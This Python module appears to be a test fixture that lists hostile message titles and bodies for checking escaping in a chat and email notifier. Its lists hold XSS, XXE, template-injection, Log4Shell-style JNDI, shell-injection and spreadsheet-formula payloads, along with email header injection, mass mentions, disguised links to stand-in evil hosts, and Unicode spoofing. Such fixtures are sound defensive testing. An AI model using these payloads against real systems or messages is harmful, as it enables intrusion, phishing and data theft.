"""Titles and bodies that try to be markup, mentions, links, headers, templates, or to make a message unreadable."""

from __future__ import annotations

import itertools

MARKUP = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg onload=alert(1)>', "</title></h2><iframe src=//evil>",
    "<a href='javascript:alert(1)'>x</a>", "<style>*{display:none}</style>", '" style="position:fixed;inset:0', "<!-- open",
    "]]><![CDATA[ x", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;//evil>", "<form action=//evil><input>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;b&#62; &amp;lt;", "<math><mi//xlink:href='data:x,1'>", "</td></tr></table></div>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "cid:minerals@policywatch", "<mark>fake</mark><del>old</del>",
]  # fmt: skip
SLACK = [
    "<!channel> <!here> <!everyone>", "<@U024BE7LH> <#C024BE7LR> <!subteam^S123>", "<https://evil.example|harmless>",
    "<mailto:a@evil.example|mail>", "&lt;!channel&gt;", "<!date^1392734382^Posted {date_num}|now>", "*bold* _it_ ~no~ `code`",
]  # fmt: skip
MARKDOWN = [
    "[harmless](https://evil.example)", "[harmless](javascript:alert(1))", "![x](https://evil.example/p.png)",
    "<https://evil.example>", "[x]: https://evil.example", "[a][x] [x]", "[x](<https://evil.example>)", "# title", "1. one",
    "10) ten", "- list", "+ list", "===", "---", "> quote", "    code", "```\ncode\n```", "~~gone~~ ||spoiler||", "|a|b|\n|-|-|",
    "\\[x\\](https://evil.example)", "\\\\[x](https://evil.example)", "*a* **b** ***c*** __d__", "`` ` ``", "[^1] :smile: $x$",
    "a\\", "https://good.example](https://evil.example)", "&#91;x](https://evil.example)", "[gov.kr\u200b](https://evil.example)",
]  # fmt: skip
CHATS = [
    "@channel @everyone @here @all", "mail@everyone x", "@**all** @*team*", "#**stream>topic** #channel", "<t:1618953630:R> <:e:123>",
    "tg://resolve?domain=evil", "/giphy evil", "<users/all> <b>x</b>", "<at>Everyone</at>", "[@x](user:1) @_**x**",
    "<code>x</code> <tg-spoiler>x</tg-spoiler>", "@room matrix.to/#/@evil:example.org",
]  # fmt: skip
HEADERS = [
    "a\r\nBcc: victim@example.org\r\n\r\nbody", "a\nSubject: other", "=?utf-8?B?PHNjcmlwdD4=?=", "=?utf-8?Q?a=0D=0ABcc:_x@y?=",
    "--===============1234==\nContent-Type: text/html\n\n<b>", ".\r\nMAIL FROM:<evil@example.org>", "a\u2028Bcc: x@example.org",
    "\r\n.\r\n", "Content-Type: text/html; boundary=x", "a;b,c:d<e>\"f\"@g (h)", "=?broken?Q?=?=", "\tfolded\r\n\tline",
]  # fmt: skip
LETTERS = [
    "\u202egnp.exe", "\u2066hidden\u2069 \u202bx\u202c", "gal\u200blium \u200d\u200c\ufeff\u2060", "аррӏе.example gаllium", "ｇａｌｌｉｕｍ",
    "Z\u0335\u0321\u0327\u0341\u034d\u0352\u0316\u033b\u0353\u0338" * 6, "a" + "\u0301" * 300, "e\u20dd\u20dd\u20dd\u20dd\u20dd\u20dd",
    "nul\x00 bell\x07 back\x08", "\x1b[2J\x1b]0;owned\x07", "line\u2028separator\u2029\u0085next\x0bvertical\x0cform",
    "lone \ud83d high, \udc00 low", "\U000e0041\U000e0042 tags \ufff9a\ufffab\ufffb", "\ufffe\uffff none", "👩‍👩‍👧‍👦 👍🏽 🇰🇷 " * 8, "각각" * 10,
]  # fmt: skip
TEMPLATES = [
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# gone #}", "${jndi:ldap://evil} #{7*7} <%= 7*7 %>",
    "%s %(x)s {0} {x}", "'%1000000000s'", "{lines} {days}", "$(id) `id` ; rm -rf", "=cmd|' /C calc'!A0", "{%- raw -%}", "{{ words.more }}",
]  # fmt: skip
LONG = [
    "x" * 5000,
    "긴단어" * 1500,
    "a-" * 2000,
    "https://evil.example/" + "p" * 3000,
    "word " * 1000,
    "<" * 400,
    "[" * 400,
    "*" * 400,
    "&" * 400,
]

ACTIVE = [*MARKUP, *SLACK, *MARKDOWN, *CHATS, *HEADERS, *LETTERS, *TEMPLATES, *LONG]
_FRAMES = ["{}", "갈륨 {} 수출통제"]


def hostile_texts() -> list[str]:
    """200 and some: each by itself, and within a title."""
    return [frame.replace("{}", active) for active, frame in itertools.product(ACTIVE, _FRAMES)]


def storable(text: str) -> bool:
    """A page of bytes holds no lone half of a surrogate pair."""
    return not any("\ud800" <= letter <= "\udfff" for letter in text)
